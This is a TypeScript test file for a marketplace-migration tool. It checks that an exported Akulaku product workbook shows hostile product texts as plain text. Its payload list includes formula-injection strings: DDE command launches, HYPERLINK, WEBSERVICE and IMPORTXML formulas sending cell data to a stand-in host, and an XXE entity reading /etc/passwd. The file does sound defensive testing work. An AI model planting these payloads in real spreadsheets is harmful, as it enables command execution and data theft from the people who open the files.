import {
  importProductsEndpoint,
  listProductsEndpoint,
  saveAkulakuConfigurationEndpoint,
  saveConfigurationEndpoint,
} from '@pindahlapak/contract';
import { readSheet } from 'read-excel-file/node';
import { listing, newSeller, type Seller } from '@pindahlapak/harness/seller';
import type { RunningServer } from '@pindahlapak/harness/server';
import { dataConfiguration } from '@pindahlapak/harness/configuration';
import type { Results } from '../../support/case.ts';
import { findLibreOffice, readByLibreOffice } from '../../support/readers/libre-office.ts';
import { onServer } from '../../support/with-server.ts';
import { bearer, send } from '../requests/request.ts';

/** Columns of the template, counted from 0. */
const [categoryColumn, titleColumn, colorColumn, descriptionColumn] = [0, 1, 2, 17];
const headerRows = 3;
const cellMax = 32_767;

const hostileTexts = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("http://jahat.contoh.id/?x="&B4,"klik")',
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://jahat.contoh.id/")',
  '=IMPORTXML("http://jahat.contoh.id/","//a")',
  '=DDE("cmd";"/C calc";"x")',
  "'=1+1",
  '"=1+1',
  '＝1+1',
  ';=1+1',
  '{=1+1}',
  '00123',
  '1e5',
  '2026-11-20',
  'TRUE',
  '#REF!',
  '_x0041_ dan _x000D_',
  ']]></t></is></c><c><f>1+1</f>',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '&lt;b&gt; & &amp;',
  'a\u0000b\u0001c\u0008d\u000be\u000cf\u001fg',
  'tidak ada \ufffe dan \uffff di sini',
  'setengah \ud83d pasangan',
  'kiri \u202e kanan \u2066 dan \ufeff',
  'tab\tdi tengah',
  '👨‍👩‍👧‍👦 keluarga',
  'z\u0310a\u0310l\u0310g\u0310o\u0310',
];

const longText = 'Panjang sekali. '.repeat(2500);

/** Texts that must be visible in a product's cells. */
interface Expected {
  name: string;
  category: string;
  color: string;
  description: string;
}

async function fillCatalogue(seller: Seller): Promise<Expected[]> {
  const products = [...hostileTexts, longText].map((text, index) =>
    listing(index, {
      name: text.length > 500 ? 'Panjang' : text,
      category: text.length > 300 ? 'Panjang' : text,
      color: text.length > 300 ? 'Panjang' : text,
      description1: text,
    }),
  );
  const { data } = await seller.client.call(importProductsEndpoint, { body: { window: 1, products } });
  const refused = data.results.find(({ status }) => status !== 'created');
  if (refused) throw new Error(`${refused.urls}: ${refused.message}`);
  const list = (await seller.client.call(listProductsEndpoint, { query: { limit: 100 } })).data.data;
  return list.map(({ name, category, color, description1 }) => ({
    name,
    category: category ?? '',
    color: color ?? '',
    description: description1 ?? '',
  }));
}

/** Saves rules that contain formulas. */
async function formulaRules(seller: Seller): Promise<void> {
  const configuration = dataConfiguration({
    titleWordReplacements: [{ id: 1, titleWordOriginal: 'Panjang', titleWordReplacement: '=2+2' }],
  });
  await seller.client.call(saveConfigurationEndpoint, { body: configuration });
  await seller.client.call(saveAkulakuConfigurationEndpoint, {
    body: {
      titlePrefix: '',
      titleSuffix: '',
      titleCondition: '',
      descriptionPrefix: '=3+3',
      descriptionSuffix: '',
      descriptionCondition: 'all',
      removeTitleDuplicates: false,
      removeDescriptionDuplicates: false,
    },
  });
}

async function download(server: RunningServer, { token }: Seller): Promise<Buffer> {
  const reply = await send(server.address, {
    method: 'GET',
    path: '/api/export/akulaku/1',
    headers: bearer(token),
  });
  if (reply.status !== 200) throw new Error(`the workbook was not given: ${reply.status} ${reply.text}`);
  return reply.bytes;
}

// Ignores what no workbook can hold; how a reader shows tabs, line breaks and direction marks is up to it.
// oxlint-disable-next-line no-control-regex
const withoutMarks = (text: string): string => text.replaceAll(/[\s\u0000-\u001f\ufeff\ufffe\uffff]+/g, '');

function compare(results: Results, cells: unknown[][], expected: readonly Expected[]): void {
  expected.forEach((product, index) => {
    const row = cells[headerRows + index] ?? [];
    const wanted: [number, string][] = [
      [titleColumn, product.name.replace('Panjang', '=2+2')],
      [categoryColumn, product.category],
      [colorColumn, product.color],
      [descriptionColumn, `=3+3\n${product.description}`.slice(0, cellMax)],
    ];
    for (const [column, text] of wanted) {
      const cell = row[column];
      // Only a category may be a number, because Akulaku expects its id there.
      const shown =
        typeof cell === 'string' || column === categoryColumn ? String(cell ?? '') : `${typeof cell} ${cell}`;
      const isSame = withoutMarks(shown) === withoutMarks(text);
      results.add(
        isSame ? null : `row ${index}, column ${column}: ${shown.slice(0, 80)} instead of ${text.slice(0, 80)}`,
      );
    }
  });
}

export const workbookInReader = onServer(
  'formulas, long texts and control characters in the workbook: read-excel-file sees text',
  async (server, results) => {
    const seller = await newSeller(server.address);
    await formulaRules(seller);
    const expected = await fillCatalogue(seller);
    const cells = await readSheet(await download(server, seller), 'Sheet1', { trim: false });
    compare(results, cells, expected);
    return `${expected.length} products`;
  },
);

export const workbookInOffice = onServer(
  'the same workbook in LibreOffice: it opens, calculates nothing, shows text',
  async (server, results) => {
    const program = findLibreOffice();
    if (program === null) return { skipped: 'no LibreOffice on this machine' };
    const seller = await newSeller(server.address);
    await formulaRules(seller);
    const expected = await fillCatalogue(seller);
    compare(results, await readByLibreOffice(program, await download(server, seller)), expected);
    return `${expected.length} products`;
  },
);
